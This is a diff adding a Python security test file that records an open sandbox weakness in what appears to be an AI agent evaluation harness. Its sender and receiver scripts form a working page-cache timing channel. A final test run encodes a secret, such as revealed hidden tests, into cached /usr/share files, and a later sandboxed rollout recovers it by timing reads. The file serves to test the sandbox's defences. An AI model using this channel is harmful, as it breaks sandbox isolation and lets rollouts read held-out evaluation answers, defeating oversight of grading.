@@ -1,0 +1,123 @@
+"""Round 31 attacks on the sandbox (open: each xfail strict until fixed).
+
+Each runs real bwrap as root (a leased uid, cgroups, the workspace as an overlay or a copy)
+and/or as a normal user (nobody, through ``run_as``).
+"""
+
+from __future__ import annotations
+
+import os
+import secrets
+import sys
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from tests.security.test_attacks_round26_sandbox import _FINAL_RUN_SENDER, _alone
+
+# r31s-1: a new instance of r28s-4's class (the page cache outlives a final run and carries its
+# secret to a later sandbox), past the filter that closed it (agent/seccomp.py: ``preadv2``'s
+# RWF_NOWAIT refused, ``cachestat`` refused, ``posix_fadvise``/``madvise`` dropping nothing): the
+# time a read takes. The host's /usr is bound read-only into every sandbox, and most of its files
+# are read by no one: their pages are not cached. A final run's tests (the rollout's fix_gcd,
+# its workspace holding the secret: what the revealed hidden tests or held-out inputs are) read
+# the first byte of 5 chosen files of /usr/share for each set bit of the secret; a sandbox run
+# after it (another rollout of the same task, later in the batch) times its first read of each:
+# ~5-20 us a cached file, ~100 us and more one read from the disk here. 128 bits in a second,
+# read whole (5 files a bit, the majority taken). The lease (agent/final_run_lease.py) keeps
+# sandboxes apart only while the final run lasts; the page cache stays. The control: no final
+# run before, every file cold, the secret not read.
+_CACHE_FILES = """
+import os, sys, time
+def files(n=640):
+    out = []
+    for root, dirs, names in os.walk("/usr/share"):
+        dirs.sort()
+        for name in sorted(names):
+            p = os.path.join(root, name)
+            try:
+                st = os.lstat(p)
+            except OSError:
+                continue
+            if st.st_size > 8192 and (st.st_mode & 0o170000) == 0o100000 and os.access(p, os.R_OK):
+                out.append(p)
+                if len(out) == n:
+                    return out
+    return out
+"""
+_CACHE_SENDER = _CACHE_FILES + textwrap.dedent(
+    """
+    secret = open("secret.txt", "rb").read()[:16]
+    names = files()
+    for i in range(128):
+        if secret[i // 8] >> (i % 8) & 1:
+            for k in range(5):
+                with open(names[5 * i + k], "rb") as f:
+                    f.read(1)
+    """
+)
+_CACHE_RECEIVER = _CACHE_FILES + textwrap.dedent(
+    """
+    took = []
+    for name in files():
+        t = time.perf_counter_ns()
+        with open(name, "rb") as f:
+            f.read(1)
+        took.append(time.perf_counter_ns() - t)
+    bits = [sum(took[5 * i + k] < 40_000 for k in range(5)) >= 3 for i in range(128)]
+    print("READ", bytes(sum(bits[8 * j + b] << b for b in range(8)) for j in range(16)).hex())
+    """
+)
+
+
+def _cold(names: list[str]) -> None:
+    """Each of ``names`` out of the page cache (the host's own doing, as a machine that has not
+    read them lately has them)."""
+    for name in names:
+        fd = os.open(name, os.O_RDONLY)
+        try:
+            os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
+        finally:
+            os.close(fd)
+
+
+def _read_after_a_final_run(tmp_path: Path, sender: bool) -> tuple[str, str]:
+    """A secret (hex of its text) and what a root sandbox running ``_CACHE_RECEIVER`` printed,
+    run after a rollout's real final run (mini-bugs' fix_gcd) whose tests ran ``_CACHE_SENDER``
+    over that secret in its workspace (``sender``; else no final run before)."""
+    from agent.final_verdict import final_test_run
+    from agent.sandbox import run_command_full
+    from agent.suites.loading import load_suite
+    from agent.workspace import Workspace
+
+    scope: dict = {}
+    exec(_CACHE_FILES, scope)  # the same files, as the host names them (the sandbox's /usr is the host's)
+    secret = secrets.token_hex(8)
+    receiver = tmp_path / "receiver"
+    receiver.mkdir(parents=True)
+    (receiver / "run.py").write_text(_CACHE_RECEIVER)
+    with _alone("page-cache-timing"):
+        _cold(scope["files"]())
+        if sender:
+            suite = load_suite("mini-bugs")
+            with Workspace.create(suite, suite.task("fix_gcd"), tmp_path / "sender") as ws:
+                for rel, text in {"gcd.py": _FINAL_RUN_SENDER, "run.py": _CACHE_SENDER, "secret.txt": secret}.items():
+                    ws.resolve(rel).write_text(text)
+                final_test_run(ws)
+        run = run_command_full([sys.executable, "run.py"], receiver, timeout_s=60, sandbox="bwrap")
+    assert "READ" in run.output, run.output[-500:]  # the receiver ran to its end
+    return secret.encode().hex(), run.output
+
+
+def test_r31s_1_control_no_final_run_before_leaves_no_secret(tmp_path):
+    secret, said = _read_after_a_final_run(tmp_path, False)
+    assert secret not in said
+
+
+@pytest.mark.xfail(
+    strict=True, reason="open: r31s-1 a later sandbox reads a final run's secret by timing reads of the page cache"
+)
+def test_r31s_1_a_later_sandbox_never_reads_a_final_runs_secret_by_read_timing(tmp_path):
+    secret, said = _read_after_a_final_run(tmp_path, True)
+    assert secret not in said, "a sandbox after the final run read its secret whole"
